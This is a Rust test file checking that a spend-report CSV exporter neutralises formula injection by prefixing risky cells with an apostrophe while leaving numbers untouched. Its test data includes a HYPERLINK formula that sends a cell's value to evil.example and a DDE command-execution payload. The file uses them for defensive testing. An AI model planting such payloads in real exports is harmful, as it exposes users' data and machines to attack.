//! The spend CSV cannot carry a formula into a spreadsheet (D17): cells that a spreadsheet
//! would run get a leading `'`, numbers stay numbers.

#![allow(clippy::unwrap_used)]

use switchboard_core::{SpendGrouping, SpendReport, SpendRow, Usd};
use switchboard_reports::spend_csv;

fn row(key: &str, label: &str, cost: &str) -> SpendRow {
    SpendRow {
        key: key.into(),
        label: label.into(),
        cost: Usd::parse(cost).unwrap(),
        unknown_requests: 0,
        requests: 1,
        prompt_tokens: 10,
        completion_tokens: 5,
        reasoning_tokens: 0,
        cached_tokens: 0,
    }
}

fn csv_of(rows: Vec<SpendRow>) -> Vec<Vec<String>> {
    let report = SpendReport {
        grouping: SpendGrouping::Model,
        since_ms: None,
        until_ms: None,
        total: rows.iter().map(|r| r.cost).sum(),
        unknown_requests: 0,
        rows,
    };
    let text = spend_csv(&report);
    csv::Reader::from_reader(text.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

#[test]
fn cells_a_spreadsheet_would_run_are_quoted_with_an_apostrophe() {
    let hyperlink = "=HYPERLINK(\"http://evil.example/\"&A1,\"click\")";
    let rows = csv_of(vec![
        row(hyperlink, hyperlink, "1"),
        row("+cmd|' /C calc'!A0", "@SUM(1+1)", "1"),
        row("-2+3", "\tTAB", "1"),
        row("\rCR", "plain/model", "1"),
    ]);
    assert_eq!(rows[0][0], format!("'{hyperlink}"));
    assert_eq!(rows[0][1], format!("'{hyperlink}"));
    assert_eq!(rows[1][0], "'+cmd|' /C calc'!A0");
    assert_eq!(rows[1][1], "'@SUM(1+1)");
    assert_eq!(rows[2][0], "'-2+3", "an expression is not a number");
    assert_eq!(rows[2][1], "'\tTAB");
    assert_eq!(rows[3][0], "'\rCR");
    assert_eq!(rows[3][1], "plain/model", "ordinary text is untouched");
}

#[test]
fn numbers_stay_numbers() {
    let rows = csv_of(vec![
        row("-5", "+1.5", "-5"),
        row("2026-11-24", "-1.5e-3", "0.0013545"),
    ]);
    assert_eq!(rows[0][0], "-5");
    assert_eq!(rows[0][1], "+1.5");
    assert_eq!(rows[0][2], "-5", "a negative cost is written as it is");
    assert_eq!(rows[1][0], "2026-11-24");
    assert_eq!(rows[1][1], "-1.5e-3");
    assert_eq!(rows[1][2], "0.0013545");
}
